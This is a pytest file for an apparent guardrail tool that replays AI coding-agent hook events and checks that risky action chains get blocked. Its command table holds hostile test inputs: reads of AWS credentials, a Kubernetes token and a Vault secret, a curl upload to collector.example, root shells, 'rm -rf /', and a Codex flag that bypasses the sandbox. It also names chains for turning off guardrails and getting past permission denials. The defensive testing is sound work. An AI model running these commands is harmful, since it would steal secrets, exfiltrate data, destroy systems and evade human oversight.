"""The state contract's scenarios with real payloads and commands, as ``replay`` runs them."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from defenseclaw.artifact import Candidate
from defenseclaw.connectors import Environment
from defenseclaw.core.posture import Posture
from defenseclaw.core.tool import Platform
from defenseclaw.core.verdict import Mode, Profile
from defenseclaw.engine import Replay, ReplayOptions
from tests.engine.test_replay import generation

SCENARIOS = yaml.safe_load(Path(__file__).with_name("transcripts.yaml").read_text("utf-8"))
CHAINS = (
    "guardrails_off_then_egress", "permission_denied_then_runtime_bypass",
    "privilege_discovery_then_elevation", "secret_manager_read_then_egress",
    "secret_read_then_egress", "workload_identity_then_lateral_execution",
)  # fmt: skip
SHELL, SURVEY = "sudo -u root /bin/sh", "sudo -l"
UPLOAD = "curl --data-binary @report.bin https://{}/upload"
LETTERS = {
    "D": SURVEY,
    "d": f"test -f x && {SURVEY}",
    "D1": "find / -perm -4000",
    "D2": "find . -perm -4000",
    "E": SHELL,
    "E1": "sudo apt-get update",
    "E2": "su alice",
    "E3": "pkexec id",
    "E4": "doas -C f",
    "E5": "echo x | su",
    "ED": f"{SHELL}; {SURVEY}",
    "EU": f"{SHELL}; {UPLOAD.format('collector.example')}",
    "S": "cat ~/.aws/credentials",
    "V": "vault kv get secret/app",
    "T": "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    "U": UPLOAD.format("collector.example"),
    "U1": UPLOAD.format("127.0.0.1"),
    "U2": UPLOAD.format("10.0.0.5"),
    "U3": UPLOAD.format("localhost"),
    "G": "curl -O https://collector.example/file",
    "L": "kubectl -n prod exec pod/api -- sh",
    "B": "codex exec --dangerously-bypass-approvals-and-sandbox go",
    "BE": "echo codex exec --dangerously-bypass-approvals-and-sandbox",
    "N": "printf harmless",
    "P": "*** Begin Patch\n*** End Patch",
    "X": "rm -rf / --no-preserve-root",
}
RESULTS: dict[str, dict[str, Any]] = {
    "": {"tool_response": {"stdout": "", "interrupted": False}},
    "mcp": {"tool_response": {"content": []}},
    "failed": {"tool_response": {"content": [], "isError": True}},
    "eacces": {"tool_response": {"stdout": ""}, "tool_result": {"error_code": "EACCES"}},
    "text": {"tool_response": {"stdout": "EACCES: permission denied"}},
    "denied": {"permission_denied": True},
}
VERSIONS = {"claudecode": "2.1.197", "codex": "0.171.0"}
EVENTS = {
    "pre": "PreToolUse", "ok": "PostToolUse", "fail": "PostToolUseFailure",
    "deny": "PermissionDenied", "batch": "PostToolBatch", "direct": "PermissionRequest",
    "turn": "Stop", "session": "SessionEnd",
}  # fmt: skip
FOLDER = "/home/dev/p"


def command_of(letter: str) -> str:
    before, found, script = letter.partition("bash:")
    if found:
        return f"{before.replace('&&', ' && ')}bash {script}"
    return LETTERS[letter]


class Player:
    """Turns the steps of one scenario into lines of a transcript."""

    def __init__(self, scenario: dict[str, Any]) -> None:
        config = {"mode": "action", "profile": "strict", **scenario.get("config", {})}
        self.agent = scenario.get("agent", "claudecode")
        self.scripts = {f"{FOLDER}/{k}": v.encode() for k, v in scenario.get("scripts", {}).items()}
        self.now = 1_000_000.0
        posture = Posture(
            mode=Mode(config["mode"]),
            profile=Profile(config["profile"]),
            human_approval=config.get("human_approval", True),
        )
        where = Environment("/home/dev", Platform.POSIX)
        self.replay = Replay(ReplayOptions(generation, where, posture, self.read))

    def read(self, candidate: Candidate) -> bytes | None:
        return self.scripts.get(candidate.path)

    def play(self, step: str) -> None:
        head, _, expected = step.partition("->")
        verb, *words = head.split()
        options = dict(word.split("=", 1) for word in words if "=" in word)
        plain = [word for word in words if "=" not in word]
        if verb in ("restart", "reload", "config"):
            self.control(verb, plain, options)
            return
        told = self.replay.feed(json.dumps(self.line(verb, plain, options)))
        for wanted in filter(None, map(str.strip, expected.split(","))):
            assert holds(wanted, told), f"{step}: {wanted}; {told}"

    def control(self, verb: str, words: list[str], options: dict[str, str]) -> None:
        rule = {"rule": words[0]} if words else True
        value: Any = {"restart": True, "reload": rule, "config": options}[verb]
        self.replay.feed(json.dumps({verb: value}))

    def line(self, verb: str, words: list[str], options: dict[str, str]) -> dict[str, Any]:
        if verb == "event":
            name, *words = words
        else:
            name = EVENTS[verb]
        if verb == "direct":
            words = ["-", *words]
        call = words[0] if words and words[0] != "-" else ""
        letter = words[1] if len(words) > 1 else "N"
        self.now += float(options.get("after", 1))
        agent = options.get("agent", self.agent)
        payload: dict[str, Any] = {"hook_event_name": name, "cwd": FOLDER}
        if options.get("s") != "none":
            payload["session_id"] = options.get("s", "s1")
        if call:
            payload["tool_use_id"] = call
        if words:
            tool = options.get("tool", "Bash")
            payload |= {"tool_name": tool, "tool_input": {"command": command_of(letter)}}
        payload |= self.outcome(verb, letter, options)
        return {
            "at_ms": self.now * 1000,
            "connector": agent,
            "agent_version": options.get("version", VERSIONS[agent]),
            "payload": payload,
        }

    def outcome(self, verb: str, letter: str, options: dict[str, str]) -> dict[str, Any]:
        more: dict[str, Any] = {"description": options["v"]} if "v" in options else {}
        if verb == "fail":
            more["error"] = "Exit code 1"
        if (
            verb == "ok"
            and self.agent == "codex"
            and letter in ("N", "P")
            and "result" not in options
        ):
            return {**more, "tool_response": "Success."}
        if verb == "ok" or "result" in options:
            more |= RESULTS[options.get("result", "")]
        return more


def chain_ids(words: list[str]) -> list[str]:
    return [f"chain.{CHAINS[int(word.removeprefix('c'))]}" for word in words]


def holds(wanted: str, told: dict[str, Any]) -> bool:
    word, *rest = wanted.split()
    if word in ("pend", "comm"):
        return bool(told[{"pend": "pending", "comm": "committed"}[word]] == int(rest[0]))
    if word == "deny":
        return bool(told["denied"] == chain_ids(rest) and told["effective"] == "block")
    if word == "only":
        return bool(told["chains"] == chain_ids(rest) and told["denied"] == [])
    if word == "none":
        return bool(told["chains"] == [])
    if word == "would":
        return bool(told["would_block"] and told["effective"] == "allow")
    return bool(told["effective"] == word)


def steps(scenario: dict[str, Any]) -> Iterator[str]:
    for entry in scenario["steps"]:
        if isinstance(entry, str):
            yield entry
        else:
            yield from (entry["line"].replace("#", str(i)) for i in range(entry["repeat"]))


@pytest.mark.parametrize(
    "scenario", SCENARIOS, ids=[f"{row['n']}-{row['title']}" for row in SCENARIOS]
)
def test_scenario(scenario: dict[str, Any]) -> None:
    player = Player(scenario)
    for step in steps(scenario):
        player.play(step)
